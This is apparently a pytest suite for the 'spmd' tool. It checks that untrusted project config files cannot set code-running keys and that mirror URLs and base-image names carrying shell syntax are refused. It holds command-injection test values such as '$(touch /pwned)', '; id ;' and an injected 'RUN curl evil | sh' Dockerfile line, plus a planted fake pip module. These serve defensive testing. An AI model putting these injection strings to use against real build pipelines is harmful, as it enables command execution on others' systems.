"""Config cannot run code: project files are trusted less than the user's own, and every value
that reaches a shell or a Dockerfile is checked by its type (docs/security.md)."""
import logging
import os

import pytest

from spmd.images import apt
from spmd import config
from spmd.config import resolve
from spmd.errors import ConfigError, SystemPackageError


def project(tmp_path, text, name="proj"):
    folder = tmp_path / name
    folder.mkdir()
    (folder / "spmd.toml").write_text(text)
    return folder


def user_file(tmp_path, text=""):
    path = tmp_path / "user.toml"
    path.write_text(text)
    return {"SPMD_USER_CONFIG": str(path)}


@pytest.mark.parametrize("line", ['base_image = "evil/image"', 'store_dir = "/tmp/theirs"',
                                  'debian_mirror = "http://evil.example.org/debian"',
                                  'share_with_group = "users"',
                                  '[profiles.x]\nbase_image = "evil/image"'])
def test_a_project_file_may_not_set_what_runs_code_unless_the_user_trusts_it(tmp_path, line):
    folder = project(tmp_path, line + "\n")
    with pytest.raises(ConfigError) as info:
        resolve(cwd=folder, environ=user_file(tmp_path))
    assert "trusted_projects" in str(info.value) and "spmd.toml" in str(info.value)
    trusted = user_file(tmp_path, f'trusted_projects = ["{folder}"]\n')
    settings = resolve(cwd=folder, environ=trusted,
                       profile="x" if "profiles" in line else None)
    assert settings.sources[line.split("=")[0].split("\n")[-1].strip()].startswith(str(folder))


def test_a_project_file_sets_harmless_keys_and_cannot_trust_itself(tmp_path):
    folder = project(tmp_path, "max_vcpus = 3\n")
    assert resolve(cwd=folder, environ=user_file(tmp_path))["max_vcpus"] == 3.0
    (folder / "spmd.toml").write_text(f'trusted_projects = ["{folder}"]\nbase_image = "x/y"\n')
    with pytest.raises(ConfigError, match="may not set"):
        resolve(cwd=folder, environ=user_file(tmp_path))


def test_a_project_file_of_another_user_or_open_to_others_is_ignored(tmp_path, caplog):
    folder = project(tmp_path, "max_vcpus = 3\n")
    environ = user_file(tmp_path)
    os.chmod(folder / "spmd.toml", 0o666)
    with caplog.at_level(logging.WARNING, logger="spmd"):
        assert resolve(cwd=folder, environ=environ).get("max_vcpus") is None
    assert "ignoring" in caplog.text and "may write" in caplog.text
    os.chmod(folder / "spmd.toml", 0o644)
    os.chmod(folder, 0o777)  # a shared /scratch or /tmp: anyone may have put it there
    assert resolve(cwd=folder, environ=environ).get("max_vcpus") is None
    os.chmod(folder, 0o755)
    if os.geteuid() == 0:
        os.chown(folder / "spmd.toml", 65534, 65534)
        assert resolve(cwd=folder, environ=environ).get("max_vcpus") is None
        os.chown(folder / "spmd.toml", 0, 0)
    assert resolve(cwd=folder, environ=environ)["max_vcpus"] == 3.0


@pytest.mark.parametrize("mirror", ['http://m.example.org/$(touch /pwned)', "http://m/`id`",
                                    'http://m.example.org/debian" ; id ; "', "ftp://m.example.org",
                                    "http://m.example.org/debian\nRUN id", "file:///etc"])
def test_a_mirror_with_shell_syntax_is_refused(tmp_path, mirror):
    with pytest.raises(ConfigError, match="debian_mirror"):
        resolve({"debian_mirror": mirror}, cwd=tmp_path, environ={})
    with pytest.raises(SystemPackageError):
        apt.debian_mirror(mirror)


@pytest.mark.parametrize("image", ["python:3.11-slim\nRUN curl evil | sh", "a b", "lab/UPPER",
                                   "python:3.11 AS x", "x;id"])
def test_a_base_image_must_be_an_image_reference(tmp_path, image):
    with pytest.raises(ConfigError, match="base_image"):
        resolve({"base_image": image}, cwd=tmp_path, environ={})


@pytest.mark.parametrize("image", ["python:3.11-slim", "localhost:5000/lab/img:v1.2",
                                   "ghcr.io/org/img@sha256:" + "a" * 64, "spmd/base:python3.11"])
def test_image_references_pass(tmp_path, image):
    assert resolve({"base_image": image}, cwd=tmp_path, environ={})["base_image"] == image


def test_mirror_credentials_reach_no_command_and_the_mirror_is_in_the_layer_tag():
    mirror = "https://lab:s3cret%21@mirror.example.org/debian"
    script = apt.install_script(("jq",), mirror, auth=True)
    assert "s3cret" not in script and "lab" not in script
    assert "https://mirror.example.org/debian" in script
    bare, auth = apt.split_credentials(mirror)
    assert bare == "https://mirror.example.org/debian"
    assert auth == "machine mirror.example.org/debian login lab password s3cret!\n"
    assert apt.layer_tag("b", ("jq",), "http://a.example.org/debian") != \
        apt.layer_tag("b", ("jq",), "http://b.example.org/debian")
    assert apt.layer_tag("b", ("jq",), mirror) == apt.layer_tag("b", ("jq",), apt.split_credentials(mirror)[0])


def test_debootstrap_gets_no_mirror_credentials_on_its_command_line_and_wget_still_logs_in(tmp_path):
    import base64
    import http.server
    import subprocess
    import threading
    from spmd.images import base as baseimage
    wanted = "Basic " + base64.b64encode(b"lab:s3 cr\"et!").decode()
    seen = []

    class Guarded(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            seen.append(self.headers.get("Authorization"))
            ok = self.headers.get("Authorization") == wanted
            self.send_response(200 if ok else 401)
            if not ok:
                self.send_header("WWW-Authenticate", 'Basic realm="mirror"')
            self.send_header("Content-Length", "2")
            self.end_headers()
            self.wfile.write(b"ok")

        def log_message(self, *args):
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Guarded)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        mirror = f"http://lab:s3%20cr%22et%21@localhost:{server.server_port}/debian"
        argv, env = baseimage.debootstrap_command("bookworm", tmp_path / "rootfs", mirror,
                                                  tmp_path / "home")
        assert not any("s3" in a or "lab" in a for a in argv)
        assert argv[-1] == f"http://localhost:{server.server_port}/debian"
        netrc = tmp_path / "home" / ".netrc"
        assert "s3 cr" in netrc.read_text() and oct(netrc.stat().st_mode & 0o777) == "0o600"
        # wget downloads for debootstrap: with this environment it logs in from the file alone
        subprocess.run(["wget", "-q", "-O", str(tmp_path / "got"), argv[-1] + "/Release"],
                       env=env, check=True, timeout=30)
        assert (tmp_path / "got").read_text() == "ok" and seen[-1] == wanted
    finally:
        server.shutdown()


def test_a_pip_planted_in_the_working_folder_is_not_what_resolves_requirements(tmp_path, monkeypatch):
    from spmd.images import build as image
    planted = tmp_path / "pip"
    planted.mkdir()
    marker = tmp_path / "ran"
    (planted / "__init__.py").write_text("")
    (planted / "__main__.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    monkeypatch.chdir(tmp_path)
    image.download_wheels((), tmp_path / "wheels")
    assert not marker.exists()
    assert any(p.name.startswith("pip-") for p in (tmp_path / "wheels").iterdir())


def test_a_broken_pyproject_planted_in_an_open_folder_is_not_even_read(tmp_path):
    shared = tmp_path / "shared"
    shared.mkdir()
    (shared / "pyproject.toml").write_text("[tool.spmd\nbroken = ")
    os.chmod(shared, 0o1777)
    (shared / "mine").mkdir()
    assert resolve(cwd=shared / "mine", environ=user_file(tmp_path)).backend == "local"
